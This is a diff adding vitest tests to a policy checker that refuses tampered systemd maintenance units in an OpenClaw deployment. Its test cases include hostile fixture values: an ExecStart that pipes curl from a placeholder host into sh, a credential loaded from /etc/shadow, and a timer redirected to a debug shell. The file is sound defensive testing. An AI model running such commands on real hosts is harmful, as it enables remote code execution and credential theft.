@@ -1,7 +1,11 @@
 import { describe, expect, it } from "vitest";
 import { renderGatewayUnit, renderPodmanUsernsUnit } from "../../components/openclaw/systemd-unit";
 import { renderStepCommand } from "../../components/remote/command-line";
-import { sandboxUsernsInputs } from "../../components/step-inputs";
+import { maintenanceInputs, sandboxUsernsInputs } from "../../components/step-inputs";
+import { renderMaintenanceUnits } from "../../components/openclaw/maintenance";
+import { parseSettings } from "../../settings/load";
+import { PROJECT } from "../../plan/capture";
+import { baseValues, rawConfig } from "../fixtures/stack";
 import { base64, by, deployment, handBuilt, messages, remoteCommand, violationsOf } from "./harness";
 
 const RULE = "privileged-units-allowlisted";
@@ -122,5 +126,55 @@ describe(RULE, () => {
     const v = await violationsOf(withFile("/etc/systemd/system/openclaw-.service.d/zz-perf.conf", "[Service]\nAmbientCapabilities=CAP_SYS_ADMIN\n"));
     expect(messages(v, RULE)).toContain("unit openclaw-gateway.service (step 'unit-step' (create) (tee writes)) runs the gateway and has ambient capabilities");
     expect(messages(v, RULE)).toContain("changes AmbientCapabilities of a unit the stack does not ship");
+  });
+});
+
+describe(`${RULE}: the maintenance units`, () => {
+  const units = renderMaintenanceUnits();
+  /** The hand-built deployment plus the maintenance step, with some units (by file name) replaced. */
+  const withMaintenance = (replace: Record<string, string> = {}, more: { path: string; content: string }[] = []) => () =>
+    handBuilt({
+      extra: (connection, after) => {
+        const settings = parseSettings(PROJECT, "dev", rawConfig(baseValues()));
+        const create = renderStepCommand("maintenance", maintenanceInputs(settings, { ...units, ...replace })).command;
+        const m = remoteCommand({ connection, create }, { dependsOn: [after] }, "maintenance");
+        const extra = more.map((f, i) => {
+          const text = `echo ${base64(f.content)} | base64 -d | sudo tee ${f.path} >/dev/null`;
+          return { resource: remoteCommand({ connection, create: text }, { dependsOn: [m] }, `extra-${i}`), create: text };
+        });
+        return [{ resource: m, create }, ...extra];
+      },
+    });
+
+  it("passes the maintenance step as the program renders it (three root jobs, their timers, the notifier)", async () => {
+    expect(by(await violationsOf(withMaintenance()), RULE)).toEqual([]);
+  });
+
+  it.each<[string, string, (u: string) => string, string]>([
+    ["a verification that runs something else", "openclaw-verify.service", (u) => u.replace(/^ExecStart=.*$/m, "ExecStart=/bin/sh -c 'curl -s https://x.example/p | sh'"), "it runs '/bin/sh -c 'curl"],
+    ["a backup job with a looser umask", "openclaw-backup.service", (u) => u.replace("UMask=0077", "UMask=0022"), "unit openclaw-backup.service (step maintenance, input OC_BACKUP_SERVICE_B64) is not the maintenance unit the pack knows"],
+    ["a notifier that reads another root file as its credential", "openclaw-notify@.service", (u) => u.replace(/^LoadCredential=.*$/m, "LoadCredential=notify-url:/etc/shadow"), "openclaw-notify@.service"],
+    ["a timer that starts another unit", "openclaw-retention.timer", (u) => u.replace("Unit=openclaw-retention.service", "Unit=debug-shell.service"), "openclaw-retention.timer"],
+  ])("refuses %s", async (_, name, edit, expected) => {
+    const v = await violationsOf(withMaintenance({ [name]: edit(units[name]) }));
+    expect(messages(v, RULE)).toContain(expected);
+    expect(messages(v, RULE)).toContain("is not the maintenance unit the pack knows");
+    expect(by(v, RULE)[0].urn).toContain("maintenance");
+  });
+
+  it("refuses the known unit text shipped by another step, at an instance of the notifier, or under a drop-in", async () => {
+    const plain = messages(await violationsOf(withFile("/etc/systemd/system/openclaw-verify.service", units["openclaw-verify.service"], {})), RULE);
+    expect(plain).toContain("unit openclaw-verify.service (step 'unit-step' (create) (tee writes)) is shipped by step 'unit-step' other than the maintenance step");
+    const instance = messages(await violationsOf(withMaintenance({}, [{ path: "/etc/systemd/system/openclaw-notify@openclaw-verify.service.service", content: "[Service]\nExecStart=/bin/true\n" }])), RULE);
+    expect(instance).toContain("unit openclaw-notify@openclaw-verify.service.service");
+    const dropIn = messages(await violationsOf(withMaintenance({}, [{ path: "/etc/systemd/system/openclaw-backup.service.d/zz.conf", content: "[Service]\nUMask=0022\n" }])), RULE);
+    expect(dropIn).toContain("drop-in /etc/systemd/system/openclaw-backup.service.d/zz.conf (step 'extra-0' (create) (tee writes)) applies to the maintenance unit(s) openclaw-backup.service");
+  });
+
+  it("refuses any other step writing what the root jobs run or read, or the backups (a verification that is not the gate)", async () => {
+    for (const path of ["/usr/local/lib/openclaw-hetzner/gate.sh", "/etc/openclaw-hetzner/verify.env", "/usr/local/lib/openclaw-hetzner/backup.sh", "/var/backups/openclaw/scheduled-x.tar.gz"]) {
+      const v = await violationsOf(withMaintenance({}, [{ path, content: "exit 0\n" }]));
+      expect(messages(v, RULE), path).toContain(`writes ${path}, where only the maintenance step's and the deploy gate's reviewed scripts write`);
+    }
   });
 });
